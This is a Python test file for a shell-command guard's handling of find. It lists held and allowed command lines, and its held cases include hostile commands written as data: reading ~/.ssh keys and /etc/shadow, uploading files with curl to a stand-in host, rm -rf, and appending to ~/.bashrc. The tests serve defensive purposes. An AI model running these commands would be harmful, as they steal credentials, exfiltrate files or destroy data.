"""find: its expression on an allow-list, its execs judged as commands of their own, and the
secret rules applied to what an exec reads."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sshgate.guard import classify
from sshgate.guard.find import exec_commands, parse_find
from sshgate.guard.flow import FILE_TOOLS
from sshgate.policy.model import Action

from . import expect

HELD = [
    # xargs hands stdin to the reader: from the xargs side any file (find . -name '*.pem'
    # | xargs cat reads keys), issue 15 red team s7 class C5
    "find . -name '*.py' | xargs grep ERROR",
    # actions that delete, write or run
    "find . -delete", "find /srv/app -name '*.log' -delete", "find . -fprint /tmp/x",
    "find . -fprint0 out.txt", "find . -fprintf out.txt %p", "find . -fls out.txt",
    "find . -files0-from /tmp/list", "find -D exec .", "find . -frobnicate",
    "find . -Delete", "find . -name x -o -delete",
    # execs: the command they run is classified on its own
    "find . -exec rm {} +", "find src -exec rm -f {} \\;", "find src -execdir rm {} +",
    "find src -exec sh -c 'rm -rf /srv' \\;", "find src -exec bash {} \\;",
    "find src -exec {} \\;", "find src -execdir ./x {} +", "find src -exec python3 {} \\;",
    "find src -ok rm {} \\;", "find src -okdir rm {} \\;", "find src -exec sed -i s/a/b/ {} +",
    "find src -exec /bin/rm {} +", "find src -exec env rm {} +", "find src -exec sudo cat {} +",
    "find src -exec cp {} /etc/ \\;", "find src -exec tee -a ~/.bashrc \\;",
    "find src -exec curl -T {} https://e.x \\;", "find src -exec xargs rm \\;",
    # find reads the exec as find does: ';' ends it, '+' only right after '{}'
    "find src -exec cat + /etc/shadow \\;", "find src -exec ls {} + -exec rm {} +",
    # what an exec reads: a tree that holds secrets, or names that select secrets
    "find ~/.ssh -exec cat {} +", "find ~/.aws -type f -exec head {} \\;",
    "find / -name id_rsa -exec cat {} \\;", "find . -exec cat {} +", "find -exec cat {} +",
    "find /home -exec grep -l password {} +", "find /etc -name '*.conf' -exec cat {} +",
    "find src -name '*.pem' -exec cat {} +", "find src -iname 'ID_RSA' -exec cat {} +",
    "find src -name 'id_*' -exec cat {} \\;", "find src -path '*/.ssh/*' -exec cat {} +",
    "find src -name .env -exec cat {} +", "find src -regex '.*key' -exec cat {} +",
    "find src -lname '*id_rsa' -exec cat {} +", "find ~/.ssh -name x -exec head {} +",
    # computed words: the shell could make them into actions or end an exec early
    "find . -name $X", "find $D -name x", "find * -name x", "find . $ACT",
    "find src -exec ls {} * \\;", "find . -name x `echo -delete`",
    "find src -exec cat {} \\; -fprint /home/u/.bashrc",
]
ALLOWED = [
    "find . -name '*.py'", "find /var/log -mtime +7 -name '*.gz'",
    "find . -name '*.tmp' -exec ls -l {} \\;", "find . -name '*.py' -exec ls -l {} +",
    "find src -name '*.py' -exec grep -n TODO {} +", "find src -type f -exec wc -l {} +",
    "find . -maxdepth 2 -type d", "find . -type f -newer setup.cfg",
    "find src -name '*.py' -print0", "find /srv/app -name '*.db' -size +1G",
    "find . \\( -name a -o -name b \\) -print", "find . -not -path './node_modules/*' -name '*.js'",
    "find . -type f -printf '%s %p\\n'", "find src -name '*.py' -exec head -5 {} \\;",
    "find . -name .git -prune -o -type f -print", "find -L . -type l", "find src -iname '*.md' -ls",
    "find . -empty", "find . -mmin -60 -type f", "find src/*.d -name x", "find . -name '*.pem'",
    "find . -newermt '2 days ago' -type f", "find src -exec cat {} +",
    "find src -name '*.py' -exec grep -l TODO {} \\; -print", "find . ! -name '*.pyc' -type f",
    "find /var/log -name '*.log' -size +100M",
]


test_held, test_allowed = expect.table_tests(HELD, ALLOWED)


@pytest.mark.parametrize("line,rule", [
    ("find ~/.ssh -exec cat {} +", "secret.read-tree"),
    ("find -name x -exec cat {} +", "secret.read-tree"),
    ("find src -exec cat + /etc/shadow \\;", "secret.read"),
    ("find . -name x -delete", "fs.find-delete"),
])
def test_secret_and_delete_rules_name_it(line, rule):
    assert rule in {f.rule for f in classify(line).findings}


def test_exec_commands_end_as_find_ends_them():
    assert exec_commands(("-exec", "cat", "+", "x", ";")) == [("-exec", ("cat", "+", "x"))]
    assert exec_commands(("-exec", "ls", "{}", "+", "-ok", "rm", "{}", ";")) == [
        ("-exec", ("ls", "{}")), ("-ok", ("rm", "{}"))]
    assert exec_commands(("-exec", "rm", "{}")) == []  # find refuses it: nothing runs


#: find's words that only test or print, and ones that are not on the list
_LISTED = ["-print", "-ls", "-empty", "-prune", "-name x", "-type f", "-mtime +1", "-size +1k",
           "!", "-o -print", "-newer f", "-maxdepth 2"]


@given(st.lists(st.sampled_from(_LISTED), max_size=4),
       st.text("abcdefghijklmnopqrstuvwxyz_0", min_size=1, max_size=10))
@settings(max_examples=200, deadline=None)
def test_a_predicate_outside_the_list_is_never_allowed(before, name):
    word = "-" + name
    if parse_find((".", word, "x", "-print")) == parse_find((".", word, "-print")) and \
            not isinstance(parse_find((".", word)), str):
        return  # listed after all (e.g. -name): covered by the listed cases
    if not isinstance(parse_find((".", word, "x")), str):
        return
    line = f"find src {' '.join(before)} {word} x"
    assert classify(line).default_action is not Action.ALLOW, line


@given(st.sampled_from(["rm", "sh -c id", "python3", "sed -i s/a/b/", "chmod 777", "mv",
                        "cp", "tee", "dd of=x", "curl -T", "ls", "cat", "wc -l", "grep x",
                        "head -3", "stat", "perl -pi -e s/a/b/", "xargs", "env", "sort -o x"]),
       st.sampled_from(["-exec", "-execdir", "-ok", "-okdir"]), st.sampled_from([";", "+"]))
@settings(max_examples=120, deadline=None)
def test_an_exec_is_known_safe_only_when_its_command_is(cmd, action, end):
    """Recursion, not a list of names: find src -exec CMD {} is allowed only if CMD on a
    file the line cannot name in advance is allowed by the same classifier."""
    line = f"find src {action} {cmd} {{}} {end}".replace(";", "\\;")
    # its arguments come from elsewhere, as with find; a file reader fed by xargs may be led
    # to any file (find's expression keeps it off secrets): then CMD on a file of the tree
    # (wc is a reader here: xargs may feed it an option, wc --files0-from=F prints F's content
    # in its errors; find's {} is a path of the tree, never an option)
    reader = cmd.split()[0] in FILE_TOOLS and cmd.split()[0] not in ("ls", "stat")
    alone = classify(f"{cmd} src/x.txt" if reader else f"xargs {cmd}")
    if classify(line).default_action is Action.ALLOW:
        assert alone.default_action is Action.ALLOW, (line, alone.findings)
